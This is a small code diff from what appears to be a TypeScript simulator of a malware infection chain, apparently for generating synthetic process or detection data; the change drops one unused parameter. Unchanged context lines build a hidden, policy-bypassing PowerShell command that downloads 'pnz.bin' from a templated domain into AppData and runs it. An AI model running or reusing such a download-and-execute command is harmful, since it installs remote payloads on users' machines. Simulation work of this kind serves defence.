@@ -151,7 +151,7 @@ function mailToScript({ host, account, t, system32 }: Infected) {
 }
 
 /** Explorer -> script host -> cmd -> PowerShell, which fetches TempNcF88.eXe -> cmd -> TempNcF88.eXe -> rundll32. */
-function scriptToMalware({ host, account, t, system32 }: Infected, explorer: WorldProcess, script: string) {
+function scriptToMalware({ account, t, system32 }: Infected, explorer: WorldProcess, script: string) {
   const { pids, proxy, domain } = MAIL_TO_TEMPNCF88;
   const malware = `${homeOf(account)}\\AppData\\Local\\TempNcF88.eXe`;
   const fetch = `powershell.exe -w hidden -nop -ep bypass (New-Object System.Net.WebClient).DownloadFile('http://${domain}/pnz.bin','${malware}'); cmd /c start ${malware}`;
